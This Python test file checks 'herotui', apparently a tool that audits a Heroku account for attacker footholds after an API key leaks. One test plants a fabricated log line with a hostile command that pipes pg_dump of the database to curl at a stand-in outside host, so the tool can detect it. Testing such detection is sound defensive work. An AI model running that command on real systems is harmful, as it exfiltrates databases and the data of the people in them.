"""A whole audit: what an attacker did and left is found, a quiet company stays quiet, nothing secret is kept."""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from herotui import clock
from herotui.audit.recording import mark_allowed, mark_ours
from herotui.audit.run import Audit, Wishes
from herotui.audit.views import Result
from herotui.errors import WrongUse
from herotui.heroku import calls
from herotui.incident.entry import Kind
from herotui.incident.known import NotSeen, Seen
from tests.audit.rig import Rig, rig
from tests.desk.rig import at_once

STEPS = ("U1", "U2", "U4", "U5")
LEFT = {"authorization", "ssh_key", "oauth_client", "collaborator", "log_drain", "webhook", "attachment", "domain"}


async def test_a_breach_shows_in_findings_timeline_and_record(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        result = await at.audit()
        assert {one.detector for one in result.footholds} >= LEFT
        assert not result.clean
        assert result.judgement.broken == ()
        assert {moment.kind for moment in result.timeline.judged()} >= {"authorization", "release", "one-off dyno"}
        assert result.timeline.bursts
        incident = at.desk.incident
        assert set(incident.findings) == {one.id for one in result.judgement.findings}
        assert all(incident.steps[step].state == "done" for step in STEPS)
        assert incident.audited
        assert incident.audited.happened == len(list(result.timeline.judged()))
        assert not at.heroku.crashes


async def test_a_quiet_company_is_quiet_and_all_that_the_api_shows_was_seen(tmp_path: Path) -> None:
    async with rig(tmp_path, "quiet") as at:
        result = await at.audit()
        assert result.judgement.findings == ()
        assert [one for one in result.not_seen if one.api] == []
        assert result.clean
        by_hand = {one.place: one.how for one in result.not_seen if not one.api}
        assert any("dataclips" in place for place in by_hand)
        assert all(how for how in by_hand.values())


async def test_with_the_leak_time_unknown_it_says_what_it_judges_by(tmp_path: Path) -> None:
    async with rig(tmp_path, leak_known=False) as at:
        result = await at.audit()
        assert not result.exact
        assert "30 days" in result.basis
        assert result.footholds


async def test_only_reads_are_sent_in_read_only_mode_too(tmp_path: Path) -> None:
    async with rig(tmp_path, read_only=True) as at:
        result = await at.audit()
        assert result.footholds
        assert {line.partition(" ")[0] for line in at.asked if "/log-sessions" not in line} == {"GET"}


async def test_an_enterprise_account_shows_addresses_and_usage(tmp_path: Path) -> None:
    async with rig(tmp_path, "enterprise") as at:
        result = await at.audit()
        assert isinstance(result.access.origins, Seen)
        assert result.access.origins.items[0].address == "203.0.113.66"
        assert result.access.origins.items[0].odd
        assert any("dynos" in line for line in result.usage.odd)
        assert any("address 203.0.113.66" in moment.ties for moment in result.timeline.judged())


async def test_a_colleagues_key_does_not_see_what_the_leaked_keys_account_lists(tmp_path: Path) -> None:
    async with rig(tmp_path, "stranger") as at:
        result = await at.audit()
        places = {one.place.partition(" of ")[0] for one in result.not_seen if one.api}
        assert places >= {"authorizations", "sessions", "SSH keys", "OAuth clients"}
        assert isinstance(result.access.logins, NotSeen)
        assert not {"U1", "U5"} & set(at.desk.incident.steps)


async def test_a_refused_trail_leaves_u1_open(tmp_path: Path) -> None:
    async with rig(tmp_path, "enterprise") as at:
        at.heroku.faults.fail(403, "/enterprise-accounts/*/events*", id="forbidden")
        at.heroku.faults.fail(403, "/enterprise-accounts/*/archives*", id="forbidden")
        result = await at.audit()
        assert isinstance(result.access.origins, NotSeen)
        assert any(one.api and one.place.startswith("audit events") for one in result.not_seen)
        assert "U1" not in at.desk.incident.steps


async def test_an_address_of_ours_is_no_finding(tmp_path: Path) -> None:
    async with rig(tmp_path, "enterprise") as at:
        mark_allowed(at.desk, "203.0.113.0/24")
        result = await at.audit()
        assert "unknown_address" not in {one.detector for one in result.judgement.findings}
        with pytest.raises(WrongUse, match="no IP address"):
            mark_allowed(at.desk, "our office")


async def test_evidence_is_kept_hashed_and_without_a_secret(tmp_path: Path) -> None:
    async with rig(tmp_path, "enterprise") as at:
        await at.audit()
        await at.desk.record.flush()
        kept = at.desk.incident.kept
        folder = at.desk.record.folder
        assert folder is not None
        assert [one.what.split()[-1] for one in kept] == ["app", "trail", "tell"]
        for one in kept:
            data = (folder / one.file).read_bytes()
            assert hashlib.sha256(data).hexdigest() == one.sha256
            assert len([json.loads(line) for line in data.splitlines()]) == one.count
            assert (folder / one.file).stat().st_mode & 0o077 == 0
        world = at.heroku.world
        values = {v for app in world.apps.values() for r in app.releases for v in r.config.values() if len(v) > 11}
        secrets = [*world.tokens, *values]
        for path in folder.rglob("*"):
            text = path.read_bytes() if path.is_file() and path.name != "salt" else b""
            assert not [one for one in secrets if one.encode() in text], path


async def _again(at: Rig) -> Result:
    """An audit as another process would make it, some minutes later."""
    at.desk.estate = None
    return await at.audit()


@pytest.mark.slow
async def test_a_second_audit_finds_nothing_new_but_what_is_gone_where_it_could_look(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        first = await at.audit()
        second = await _again(at)
        assert [one.id for one in first.judgement.findings] == [one.id for one in second.judgement.findings]
        found = [entry for entry in at.desk.record.entries if entry.kind == Kind.FINDING]
        assert sum(len(entry.data["items"]) for entry in found) == len(first.judgement.findings)
        drain = next(one for one in first.footholds if one.detector == "log_drain")
        assert drain.action
        assert at.desk.client
        for call in drain.action.calls:
            await at.desk.client.write(call)
        refusal = at.heroku.faults.fail(403, "/apps/*/log-drains", id="forbidden")
        blind = await _again(at)
        assert any(one.api and one.place.startswith("log drains") for one in blind.not_seen)
        assert all(one.gone_at is None for one in at.desk.incident.findings.values())
        at.heroku.faults.active.remove(refusal)
        await _again(at)
        assert [one.id for one in at.desk.incident.findings.values() if one.gone_at] == [drain.id]


async def test_a_mark_of_ours_counts_until_it_is_taken_back_and_asks_nothing(
    tmp_path: Path,
) -> None:
    async with rig(tmp_path) as at:
        first = await at.audit()
        one = first.judgement.findings[0]
        with pytest.raises(WrongUse, match="why"):
            mark_ours(at.desk, [one.id], " ")
        with pytest.raises(WrongUse, match="No finding"):
            mark_ours(at.desk, ["00000000"], "ours")
        asked, at.desk.estate, audit = len(at.asked), None, Audit(at.desk)
        same = await audit.reopen()
        assert same
        assert [found.id for found in same.judgement.findings] == [found.id for found in first.judgement.findings]
        mark_ours(at.desk, [one.id], "our own, ticket 42")
        marked = await audit.reopen()
        assert len(at.asked) == asked
        assert marked
        assert one.id not in {found.id for found in marked.judgement.findings}
        assert one.id in {found.id for found, _ in marked.judgement.ours}
        assert at.desk.incident.findings[one.id].ours == "our own, ticket 42"
        mark_ours(at.desk, [one.id], "", undone=True)
        again = await audit.reopen()
        assert again
        assert one.id in {found.id for found in again.judgement.findings}
        assert not at.desk.incident.findings[one.id].ours


async def test_herotuis_own_writes_are_no_findings(tmp_path: Path) -> None:
    async with rig(tmp_path, "quiet") as at:
        app = next(iter(at.heroku.world.apps.values()))
        assert at.desk.client
        call = calls.delete_collaborator(app.name, next(iter(app.collaborators.values())).account.email)
        data = {"id": "1", "call": call.as_data(), "why": "R6"}
        at.desk.record.submit(Kind.INTENT, call.line, phase="rotate", data=data)
        await at.desk.client.write(call)
        result = await at.audit()
        assert [one.title for one in result.judgement.findings] == []
        assert [moment.kind for moment in result.timeline.judged() if moment.ours] == ["herotui"]


async def test_log_lines_of_the_responders_tell_of_processes_that_ended(tmp_path: Path) -> None:
    async with rig(tmp_path, "quiet") as at:
        app = next(iter(at.heroku.world.apps.values()))
        line = "{:%Y-%m-%dT%H:%M:%S}+00:00 app[api]: Starting process with command `{}` by user {}\n"
        when = at.heroku.leaked_at.replace(minute=59)
        file = tmp_path / f"{app.name}.log"
        command = "bash -c 'pg_dump $DATABASE_URL | curl -T - https://out.example'"
        file.write_text(line.format(when, command, at.heroku.world.owner.email))
        result = await at.audit(Wishes(logs=(str(file),)))
        assert "one_off_process" in {one.detector for one in result.judgement.findings}
        again = await _again(at)
        assert [one.id for one in again.judgement.findings] == [one.id for one in result.judgement.findings]
        assert len(again.timeline.moments) == len(result.timeline.moments)


async def test_a_log_file_that_tells_nothing_is_not_seen(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("no log\n")
    async with rig(tmp_path, "quiet") as at:
        result = await at.audit(Wishes(logs=(str(tmp_path / "notes.txt"),)))
        assert [one.place for one in result.not_seen if one.api] == [str(tmp_path / "notes.txt")]


async def test_a_missing_file_is_refused_before_anything_is_sent(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        with pytest.raises(WrongUse):
            await at.audit(Wishes(logs=(str(tmp_path / "missing"),)))
        assert at.asked == []


async def test_a_key_that_dies_halfway_leaves_what_was_seen_and_says_what_is_missing(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        at.heroku.faults.add("revoked", "/apps/*/releases", times=1)
        with clock.replaced(lambda: datetime.now(UTC), at_once):
            result = await at.audit()
        assert {one.detector for one in result.footholds} >= {"authorization", "ssh_key"}
        assert any("401" in one.reason for one in result.not_seen if one.api)
        assert "U5" not in at.desk.incident.steps


async def test_lists_that_are_refused_are_not_taken_for_empty(tmp_path: Path) -> None:
    async with rig(tmp_path) as at:
        at.heroku.faults.fail(403, id="forbidden")
        result = await at.audit()
        assert result.judgement.findings == ()
        assert not result.clean
        assert isinstance(result.usage.series["releases"], NotSeen) or not result.timeline.moments
        assert not set(STEPS) & set(at.desk.incident.steps) - {"U2"}


async def test_requests_are_left_for_revoking_and_what_was_not_asked_for_them_says_so(tmp_path: Path) -> None:
    async with rig(tmp_path, "quiet") as at:
        await at.audit()
        at.heroku.world.owner.pool.left = 450
        result = await _again(at)
        later = [one for one in result.not_seen if "left for later" in one.reason]
        assert {one.place.split(",")[0] for one in later} >= {"recent log lines"}
